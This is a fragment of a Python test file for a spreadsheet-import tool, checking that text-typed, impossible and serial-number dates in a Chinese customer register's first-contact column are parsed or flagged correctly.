    assert ctx.tracker_after.values("customer_name")[0] == "上海中丰饮料有限公司"


@case("every date typed as text in the register's date column, some impossible")
def build_register_dates(folder: Path):
    reg = [list(r) for r in REGISTER_ROWS]
    reg[0][5] = "2024年1月5日"
    reg[1][5] = "2024/2/30"
    reg[2][5] = "去年"
    reg[3][5] = 45000
    office(folder, register_sheets=[register(reg)])


@expects
def _(ctx):
    got = ctx.register_before.values("first_contact_date")
    assert got[0] == dt.date(2024, 1, 5) and got[1] is None and got[2] is None
    assert got[3] == dt.date(2023, 3, 15)
    bad = {p.row: p for p in ctx.problems("customers.xlsx") if p.column == "首次接触日期"}
    assert bad[3].reason == "no such date: 2024-02-30" and bad[4].value == "去年"
    ctx.assert_run_ok()
